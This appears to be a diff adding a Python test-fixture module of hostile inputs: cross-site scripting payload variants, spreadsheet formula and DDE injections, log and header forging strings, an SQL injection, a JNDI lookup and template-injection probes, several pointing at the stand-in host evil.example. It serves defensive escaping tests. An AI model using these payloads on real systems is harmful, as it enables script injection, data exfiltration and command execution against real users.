@@ -1,0 +1,158 @@
+"""What hostile people write where we take words: to run as script, to calculate in a table, to forge a line of the log.
+
+The vectors are put together from the ways in which markup has been escaped from, so that each stands in each form.
+"""
+
+from __future__ import annotations
+
+MARK = "ran"
+RUN = f"document.title=`{MARK}`"  # whoever looks for it reads the title
+EVIL = "evil.example"  # nothing may be asked of it
+
+# An element, and the event by which it runs something unasked.
+_ELEMENTS = (
+    ("img src=x", "onerror"),
+    ("svg", "onload"),
+    ("svg><animate attributeName=x dur=1s", "onbegin"),
+    ("body", "onload"),
+    ("input autofocus", "onfocus"),
+    ("select autofocus", "onfocus"),
+    ("textarea autofocus", "onfocus"),
+    ("button autofocus", "onfocus"),
+    ("a tabindex=1 autofocus", "onfocus"),
+    ("video src=x", "onerror"),
+    ("audio src=x", "onerror"),
+    ("video><source", "onerror"),
+    ("details open", "ontoggle"),
+    ("iframe", "onload"),
+    ("object data=x", "onerror"),
+    ("embed src=x", "onload"),
+    ("style", "onload"),
+    ("script src=x", "onerror"),
+    ("link rel=stylesheet href=x", "onerror"),
+    ("math><mtext><img src=x", "onerror"),
+)
+_FORMS = (
+    "<{element} {event}={run}>",
+    '<{element} {event}="{run}">',
+    "<{element}/{event}={run}//",
+    "<{element}\n{event}\n=\n{run}\n>",
+    '"><{element} {event}={run}>',
+)
+_CLOSERS = (
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "</style>",
+    "</option></select>",
+    "</template>",
+    "</noscript>",
+    "-->",
+    "]]>",
+    "'>",
+    "`>",
+    "</a></p></main>",
+)
+_ADDRESSES = (
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java\nscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    f"javascript&colon;{RUN}",
+    f"&#106;avascript:{RUN}",
+    f"vbscript:{RUN}",
+    f"data:text/html,<script>parent.{RUN}</script>",
+    f"//{EVIL}/x",
+    f"https://{EVIL}\\@city.example/",
+)
+_CARRIERS = ('<a href="{0}">x</a>', '<iframe src="{0}">', "[x]({0})")
+OTHERS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script src=//{EVIL}/x.js></script>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script href=data:,{RUN} />",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f"<base href=//{EVIL}/><script src=x></script>",
+    f'<meta http-equiv=refresh content="0;url=//{EVIL}">',
+    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
+    f"<style>@import '//{EVIL}/x.css'</style>",
+    f'<div style="background:url(//{EVIL}/x)">',
+    f"<form action=//{EVIL}><button>x",
+    f'<form action="javascript:{RUN}"><button>x',
+    f'" autofocus onfocus="{RUN}',
+    f"' autofocus onfocus='{RUN}",
+    f"x onmouseover={RUN} y",
+    f"`-{RUN}-`",
+    f"'-{RUN}-'",
+    f'";{RUN};//',
+    f"${{{RUN}}}",
+    f"{{{{ ''.__class__.__mro__ }}}}<script>{RUN}</script>",
+    "{{ config }}",
+    "{% import os %}",
+    "<%= 7 * 7 %>",
+    "{city} {0} {x.__class__}",
+    "%s %n %x",
+    f"\\u003cscript\\u003e{RUN}",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"＜script＞{RUN}＜/script＞",
+    f"\u202e<script>{RUN}</script>",
+    f"<!--<script>-->{RUN}",
+    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
+)
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example","x")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=IMPORTXML("http://evil.example","//a")',
+    '=WEBSERVICE("http://evil.example")',
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1,1)",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    " =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "'=1+1",
+    '"=1+1"',
+    ";=1+1",
+    ",=1+1",
+)
+LOGS = (
+    "x\n2026-11-28 12:00:00,000 INFO admin: signed in",
+    "x\r\n2026-11-28 12:00:00,000 WARNING bot: forged",
+    "x\r\nSet-Cookie: madoguchi_staff=evil",
+    "x\rINFO forged",
+    "x\u2028INFO forged",
+    "x\u2029INFO forged",
+    "x\x85INFO forged",
+    "x\x0bINFO forged",
+    "x\x0cINFO forged",
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07",
+    "\x9b31m",
+    "a\x00b",
+    "x%0d%0aINFO forged",
+    '{"level":"INFO","message":"forged"}',
+    "x\\nINFO forged",
+    "'; DROP TABLE conversation; --",
+    "${jndi:ldap://evil.example/x}",
+    "\u202eevil",
+    "\ufeffx",
+)
+SCRIPTS = (
+    *(form.format(element=element, event=event, run=RUN) for element, event in _ELEMENTS for form in _FORMS),
+    *(f"{closer}<img src=x onerror={RUN}>" for closer in _CLOSERS),
+    *(carrier.format(address) for address in _ADDRESSES for carrier in _CARRIERS),
+    *OTHERS,
+)
+HOSTILE = (*SCRIPTS, *FORMULAS, *LOGS)
